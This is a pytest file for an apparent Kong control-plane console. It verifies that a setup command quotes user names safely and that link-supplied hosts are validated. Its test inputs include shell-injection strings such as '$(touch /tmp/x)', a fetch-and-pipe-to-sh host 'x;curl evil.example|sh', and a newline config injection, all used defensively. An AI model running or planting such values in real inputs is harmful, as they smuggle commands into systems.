"""The command and the settings that **Configure Runtime** shows: nothing in them is more than the word that it should be."""

import shlex
from types import SimpleNamespace
from typing import Any, cast

import pytest

from kongdp.controlplane.console.screens.configure_runtime import command, place_of
from kongdp.controlplane.console.visit import Visit

GROUP = {
    "id": "3c1f6d9e-0000-4000-8000-000000000000",
    "config": {
        "ca_fingerprint": "ab" * 32,
        "control_plane_endpoint": "gateway.example:8005",
        "telemetry_endpoint": "gateway.example:8006",
    },
}


def visitor(name: str = "admin") -> Visit:
    return cast(Visit, SimpleNamespace(identity=SimpleNamespace(name=name), host="console.example"))


@pytest.mark.parametrize("name", ["admin", "ann o'neil", "$(touch /tmp/x)", '`id`; id & "', "-x"])
def test_a_name_is_one_word_of_the_command(name: str) -> None:
    """Whatever characters it has."""
    first, second = command(visitor(name), GROUP, "gateway.example:8005", 8000).split(" && ", 1)
    assert shlex.split(first)[:3] == ["curl", "-fsSk", "https://gateway.example:8005/runtime-setup.sh"]
    words = shlex.split(second)
    assert words[words.index("-u") + 1] == name
    assert len(words) == 12


@pytest.mark.parametrize(
    ("host", "place"),
    [
        ("", "gateway.example:8005"),
        ("10.0.0.1", "10.0.0.1:8005"),
        ("10.0.0.1:9", "10.0.0.1:9"),
        ("[::1]:9", "[::1]:9"),
        ("x;curl evil.example|sh", "console.example:8005"),
        ("x\nproxy_listen = off", "console.example:8005"),
        ("$(id):1", "console.example:8005"),
    ],
)
def test_a_host_in_the_address_is_a_host_or_nothing(host: str, place: str) -> None:
    """Anybody could have sent the link."""
    group: dict[str, Any] = GROUP
    assert place_of(visitor(), group, host) == place
